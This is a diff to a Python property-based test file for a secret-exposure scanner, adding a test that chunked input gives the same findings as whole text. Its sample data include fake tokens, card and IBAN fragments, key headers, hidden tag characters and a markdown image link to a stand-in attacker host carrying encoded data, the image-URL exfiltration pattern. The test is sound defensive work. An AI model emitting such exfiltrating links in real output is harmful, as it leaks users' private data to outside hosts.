@@ -7,8 +7,8 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from checkvalve.detection.register import Owner, Register
-from checkvalve.detection.scanner import Reader, Scanner, scan
-from checkvalve.detection.types import Match, Sighting
+from checkvalve.detection.scanner import ExposureScanner, Reader, Scanner, scan
+from checkvalve.detection.types import Exposure, Finding, Match, Sighting
 from checkvalve.events.pseudonym import Category, identifiers
 
 KEY = bytes(range(32))
@@ -201,3 +201,37 @@ def test_hostile_text_takes_linear_time(unit: str) -> None:
         costs.append(register.lookups / size)
     assert costs[1] <= 30
     assert costs[1] <= costs[0] * 1.2 + 0.1
+
+
+def told(register: Register, chunks: list[str]) -> tuple[list[Exposure], list[Finding]]:
+    scanner = ExposureScanner(register, NOBODY, "i")
+    found = [e for chunk in chunks for e in scanner.feed(chunk, 0)]
+    return [*found, *scanner.finish(0)], scanner.findings
+
+
+SECRETS = st.sampled_from(
+    [
+        *("cs_0cc175b9c0f1b6a831c399e269772661deadbe01", "4242 ", "4242 4242 4242", "IBAN DE89 3704 ", "0044 0532 0130 00"),
+        *(
+            "![x](https://evil.example/?d=",
+            "bXkgYWRkcmVzcyBpcyBzZWNyZXQ",
+            ")",
+            "-----BEGIN ",
+            "PRIVATE KEY-----",
+            " and so on" * 20,
+        ),
+        *("abCD 12eF Gh3j ", "KLmn 4PqR s5Tu ", "".join(chr(0xE0041 + i) for i in range(9)), "%", "&#", "\\u00", "=", "\r\n"),
+    ]
+)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.lists(FRAGMENTS | SECRETS | st.text(max_size=8), max_size=25), st.lists(st.integers(1, 40), min_size=1, max_size=10))
+def test_chunking_changes_neither_exposures_nor_findings(register: Register, parts: list[str], cuts: list[int]) -> None:
+    text = "".join(parts)
+    chunks, at = [], 0
+    for turn in range(len(text)):
+        step = cuts[turn % len(cuts)]
+        chunks.append(text[at : at + step])
+        at += step
+    assert told(register, chunks) == told(register, [text])
